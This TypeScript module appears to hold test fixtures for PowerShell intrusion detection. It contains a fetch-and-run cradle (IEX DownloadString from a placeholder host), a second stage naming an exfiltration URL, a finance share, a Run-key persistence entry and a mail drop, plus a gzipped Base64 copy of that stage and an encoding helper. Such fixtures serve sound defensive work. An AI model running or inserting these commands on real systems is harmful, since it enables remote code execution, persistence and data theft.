import { toolFile } from './toolFile';

/** What the document has PowerShell do. */
export const firstStage = [
  "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.net/stage.ps1')",
  `# update-svc.exe md5=${toolFile.md5}`,
].join('; ');

/** What the intruder has PowerShell do on the server: it does nothing but name what it is after. */
export const secondStage = [
  "$peers = '198.51.100.23', '203.0.113.45'",
  "$report = 'https://collect.example.org/in?id=7f3a'",
  "$share = '\\\\FIN-SRV-02\\Ledger$\\2026\\q1.xlsx'",
  "$start = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\UpdateSvc'",
  "$mail = 'ledger@collect.example.org'",
  `# update-svc.exe ${toolFile.sha256}`,
  '# previous build 3fa0c61be2d94c7d8e5512a7709b4d10',
].join('\n');

/** What an administrator runs, encoded for the sake of its quotes. */
export const adminScript =
  'Get-EventLog -LogName System -Newest 50 | Where-Object { $_.EntryType -eq "Error" } | Format-Table -AutoSize';

/** A script as `powershell -EncodedCommand` takes it: UTF-16 in Base64. */
export function asEncodedCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** `secondStage`, compressed with gzip, in Base64. Written down, since compressors differ from version to version. */
export const secondStageArchive =
  'H4sIAAAAAAACA22OXWvCMBhG7/srAiv0ZsZ8NK0dyCaiKPMDdFMGAUmTN1qobZe0zp8/6m53f855nrABcB6NUUSzERYUU0Iw49EzihjhmGBKOY5FFIQOmtq1PXlp28a/DIe6LkvQLYa7ujYl4Nqdh0X1WphxarmKgtBflIPekHK+3Az2u8OAMLkCcwYXSkZYIr8pvpf+3sOt+ssv3mdfp9V2Olmd1pPpYrmZyf12/nGc7GZyXWhX+9q28lhUpv7xcto5B1V7AOeLupK7rpKfjVEt7G86CsKrKso+Wj5G3/65HAVPqHsYA3/TGO6ACKVCE8O4VWlsGafWZjZhWigeW6EFyW08yq2GnGsuVKJFbDRhJFFZwiyY4Ak1Dm5F3XmUd0VpELeK6ITmwEwW69SMQAjKVJqSLI8NJb/FAg/4hwEAAA==';
